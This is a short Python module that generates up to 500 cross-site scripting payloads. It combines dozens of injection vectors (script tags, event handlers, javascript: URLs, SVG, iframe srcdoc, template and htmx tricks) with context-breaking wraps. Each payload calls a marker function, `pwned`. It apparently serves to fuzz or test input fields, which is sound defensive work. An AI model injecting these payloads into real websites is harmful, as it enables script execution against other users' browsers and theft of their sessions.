"""Five hundred ways to get a script run, for the fields of reports and for addresses; each would call `pwned`."""

from itertools import islice, product

CALLS = ("pwned()", "pwned``", "top.pwned()", "window['pwned']()", "eval('pwned()')")

VECTORS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script src=data:text/javascript,{0}></script>",
    "<img src=x onerror={0}>",
    '<img src=x onerror="{0}"//',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<a href='javascript:{0}'>here</a>",
    "<a href=' \tjava\nscript:{0}'>here</a>",
    "<form action='javascript:{0}'><button>go</button></form>",
    "<button formaction='javascript:{0}'>go</button>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<body onload={0}>",
    "<video><source onerror={0}></video>",
    "<style>@import 'javascript:{0}';</style>",
    "<link rel=stylesheet href='javascript:{0}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{ {0} }}}}",
    "{{% if {0} %}}",
    "${{{0}}}",
    "<div hx-on:load='{0}' hx-get=/ hx-trigger=load>",
    "<div data-hx-on-htmx-load='{0}'>",
    "<x onclick={0}>",
    "<!--><script>{0}</script-->",
)

WRAPS = ("{0}", '"{0}', "'>{0}", "</title>{0}", "</textarea></script>{0}", '" autofocus onfocus="{0}')


def payloads(count: int = 500) -> list[str]:
    """The first `count` of the vectors, in their wraps, with their calls."""
    made = (wrap.replace("{0}", vector.format(call)) for call, wrap, vector in product(CALLS, WRAPS, VECTORS))
    return list(islice(dict.fromkeys(made), count))
